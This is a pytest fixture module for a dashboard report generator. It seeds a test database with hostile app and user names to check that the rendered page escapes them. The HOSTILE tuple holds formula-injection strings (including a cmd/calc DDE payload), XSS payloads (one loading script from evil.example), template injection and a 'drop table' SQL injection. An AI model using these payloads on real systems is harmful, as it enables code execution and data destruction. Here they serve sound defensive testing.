"""Published files to report on: the golden story, one beside a tenant without a licence, and one with hostile names."""

from __future__ import annotations

from pathlib import Path
from typing import Final

import duckdb
import pytest

from dashboard.report.content import Choice, gather
from dashboard.report.page import page
from dashboard.report.source import Source
from tests.dashboard.files import BLIND, write

from .reading import Reading

MORE: Final = "see the workbook"

HOSTILE: Final = (
    "=HYPERLINK(\"http://evil.example\",\"Bill\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    " =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</title></style></svg></code><script src=//evil.example/x.js></script>",
    "{{ 7 * 7 }}{% raw %}",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
    "O'Brien'; drop table marts.dim_app; --",
)  # fmt: skip
"""What somebody could call an app, or himself."""

HOSTILITIES: Final = """
update marts.app_overview set display_name = $names[1 + (rowid % len($names))::bigint], publisher_name = $names[1 + ((rowid + 1) % len($names))::bigint],
    unknown_explanation = case when unknown_explanation is not null then $names[1 + ((rowid + 2) % len($names))::bigint] end,
    owner_names = case when owners > 0 then $names end, directory_roles = $names;
update marts.dim_app set display_name = $names[1 + (rowid % len($names))::bigint],
    publisher_name = case when ownership = 'own' then $names[12] else publisher_name end;
update marts.app_risk_factor set evidence = $names[1 + (rowid % len($names))::bigint];
update marts.permission_change set app_name = $names[1 + (rowid % len($names))::bigint], what = $names[1 + ((rowid + 3) % len($names))::bigint],
    changed_by = $names[1 + ((rowid + 7) % len($names))::bigint];
update marts.dim_user set display_name = $names[1 + (rowid % len($names))::bigint], department = $names[1 + ((rowid + 9) % len($names))::bigint];
update marts.reclaim_candidate set evidence = $names[1 + (rowid % len($names))::bigint], group_name = $names[1 + ((rowid + 4) % len($names))::bigint];
"""


@pytest.fixture(scope="session")
def story(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The golden story, published."""
    file = tmp_path_factory.mktemp("story") / "consentry.duckdb"
    write(file)
    return file


@pytest.fixture(scope="session")
def two(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The golden story, and a tenant whose sign-ins nobody may read."""
    file = tmp_path_factory.mktemp("two") / "consentry.duckdb"
    write(file, blind=True)
    with duckdb.connect(str(file)) as connection:
        connection.execute(
            "update marts.coverage set usage_rung = 'none' where tenant_id = $1 and usage_rung is not null", [BLIND]
        )
    return file


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The golden story, in which whoever chose a name chose it to do harm."""
    file = tmp_path_factory.mktemp("hostile") / "consentry.duckdb"
    write(file)
    with duckdb.connect(str(file)) as connection:
        for statement in HOSTILITIES.split(";\n")[:-1]:
            connection.execute(statement, {"names": list(HOSTILE)})
    return file


def told(file: Path, choice: Choice | None = None) -> str:
    """Return the page of a published file."""
    with Source.open(file) as source:
        return page(gather(source, choice or Choice()), MORE)


def read(file: Path, choice: Choice | None = None) -> Reading:
    """Return what the page of a published file says; everything that it opens it closes."""
    reading = Reading(told(file, choice))
    assert reading.open == []
    return reading


def rows(file: Path, query: str) -> list[tuple[object, ...]]:
    """Return the answer to a query of a published file."""
    with duckdb.connect(str(file), read_only=True) as connection:
        connection.execute("set TimeZone = 'UTC'; set search_path = 'marts,main'")
        return connection.execute(query).fetchall()
